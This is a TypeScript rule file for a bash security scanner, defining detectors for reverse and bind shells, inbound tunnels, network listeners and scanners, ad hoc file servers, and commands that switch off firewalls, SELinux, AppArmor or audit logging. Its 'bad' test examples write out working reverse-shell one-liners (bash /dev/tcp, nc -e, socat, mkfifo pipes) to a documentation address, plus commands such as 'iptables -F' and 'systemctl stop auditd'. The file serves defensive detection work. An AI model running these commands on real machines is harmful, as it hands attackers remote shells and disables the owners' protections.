/** Bash: ways in from outside (shells, tunnels, servers), and protection switched off. */
import { SHELL_NAMES } from './bash-shells';
import type { Rule } from './format';

export const bashRemoteRules: readonly Rule[] = [
  {
    id: 'sh/network/reverse-shell',
    languages: ['bash'],
    severity: 'high',
    message: 'Gives a shell to another machine (reverse or bind shell)',
    recommendation: 'Take it out; nothing in a repository needs a remote shell',
    metadata: { capability: 'network', cwe: 'CWE-912' },
    match: [
      { redirect: { operator: ['<>', '>&', '&>', '&>>'], target: { prefix: ['/dev/tcp/', '/dev/udp/'] } } },
      {
        all: [
          { redirect: { target: { prefix: ['/dev/tcp/', '/dev/udp/'] } } },
          { call: [...SHELL_NAMES, '$command', 'eval'] },
        ],
      },
      {
        pipe: {
          from: ['nc', 'telnet', 'socat', 'openssl', '/dev/tcp'],
          to: [...SHELL_NAMES, 'eval', 'source', 'python', 'perl', 'ruby', 'php', 'node'],
        },
      },
      { pipe: { from: SHELL_NAMES, to: ['nc', 'telnet', 'socat', 'openssl', 'curl'] } },
      { call: 'nc', where: { flag: ['e', 'c', 'exec', 'sh-exec', 'lua-exec'] } },
      { call: ['xterm', 'rxvt', 'gnome-terminal'], where: { flag: ['-display', 'display'] } },
      { call: 'socat', where: { arg: 'any', regex: '(?i)(^|,)(exec|system):' } },
      { call: ['ztcp', 'perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
    ],
    bad: [
      'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      'sh -i 5<> /dev/tcp/198.51.100.7/9 0<&5 1>&5',
      'nc -e /bin/sh 198.51.100.7 4444',
      'ncat --exec /bin/bash -l 4444',
      'socat TCP:198.51.100.7:4444 EXEC:/bin/sh',
      'rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 >/tmp/p',
      'telnet 198.51.100.7 1 | /bin/bash | telnet 198.51.100.7 2',
      'perl -e \'use Socket; socket(S,2,1,6); connect(S,pack_sockaddr_in(1,inet_aton("x")));\'',
      'awk \'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c } }\'',
    ],
    ok: ['nc -z localhost 5432 && echo up', 'socat -V', 'echo "bash -i >& /dev/tcp/1.2.3.4/4444"'],
  },
  {
    id: 'sh/network/tunnel',
    languages: ['bash'],
    severity: 'high',
    message: 'Opens a way into this machine or network from outside (tunnel)',
    recommendation: 'Take the tunnel out',
    metadata: { capability: 'network', cwe: 'CWE-441' },
    match: [
      { call: ['ssh', 'autossh'], where: { flag: ['R', 'D', 'w'] } },
      { call: 'ssh', where: { arg: 'any', prefix: ['RemoteForward', 'DynamicForward', '-oRemoteForward'] } },
      {
        call: [
          'ngrok',
          'cloudflared',
          'chisel',
          'frpc',
          'bore',
          'localtunnel',
          'lt',
          'tmate',
          'gsocket',
          'gs-netcat',
          'pagekite',
        ],
      },
    ],
    bad: ['ssh -fN -R 2222:localhost:22 a@198.51.100.7', 'ngrok tcp 22'],
    ok: ['ssh host uptime', 'ssh -i key -p 22 a@example.org ls'],
  },
  {
    id: 'sh/network/server',
    languages: ['bash'],
    severity: 'medium',
    message: 'Listens for connections or searches the network for machines',
    recommendation: 'Leave the server or the search out',
    metadata: { capability: 'network' },
    tags: ['send'],
    match: [
      { call: 'nc', where: { flag: ['l', 'listen'] } },
      { call: 'socat', where: { arg: 'any', regex: '(?i)-listen:' } },
      {
        call: ['nmap', 'masscan', 'zmap', 'arp-scan', 'tcpdump', 'tshark', 'hydra', 'hping3', 'ettercap', 'responder'],
      },
      { call: ['ssh', 'autossh'], where: { flag: ['L'] } },
    ],
    bad: ['nc -lvp 4444', 'nmap -sS 192.0.2.0/24'],
    ok: ['nc -z localhost 80', 'python3 -m json.tool data.json', 'ls -l'],
  },
  {
    id: 'sh/network/file-server',
    languages: ['bash'],
    severity: 'low',
    message: 'Serves files over HTTP',
    recommendation: 'Read the files where they are',
    metadata: { capability: 'network' },
    tags: ['send', 'serves'],
    match: [
      { call: 'python', where: { arg: 'any', equals: ['http.server', 'SimpleHTTPServer', 'pyftpdlib'] } },
      { call: 'php', where: { flag: ['S'] } },
    ],
    bad: ['python3 -m http.server 8000', 'php -S localhost:8000'],
    ok: ['python3 -m json.tool data.json', 'php -v'],
  },
  {
    id: 'sh/network/filters-off',
    languages: ['bash'],
    severity: 'high',
    message: 'Switches protection of the machine off (firewall, SELinux, AppArmor, audit)',
    recommendation: 'Leave the machine as it is configured',
    metadata: { capability: 'network', cwe: 'CWE-693' },
    match: [
      {
        call: ['iptables', 'ip6tables', 'nft', 'ufw', 'firewall-cmd'],
        where: { arg: 'any', equals: ['-F', '--flush', 'flush', 'disable', '-X', '-P', 'reset'] },
      },
      { call: 'setenforce', where: { arg: 0, equals: ['0', 'Permissive', 'permissive'] } },
      { call: 'auditctl', where: { arg: 'any', equals: ['-e', '-e0', '-D'] } },
      { call: ['aa-teardown', 'aa-disable', 'aa-complain'] },
      {
        call: ['systemctl', 'service'],
        where: [
          { arg: 'any', equals: ['stop', 'disable', 'mask'] },
          {
            arg: 'any',
            regex:
              '^(auditd|rsyslog|syslog|firewalld|ufw|apparmor|fail2ban|falco|crowdstrike|falcon-sensor|clamav\\S*)(\\.service)?$',
          },
        ],
      },
    ],
    bad: ['iptables -F', 'sudo setenforce 0', 'systemctl stop auditd', 'service rsyslog stop'],
    ok: ['iptables -L', 'systemctl status nginx', 'getenforce'],
  },
];
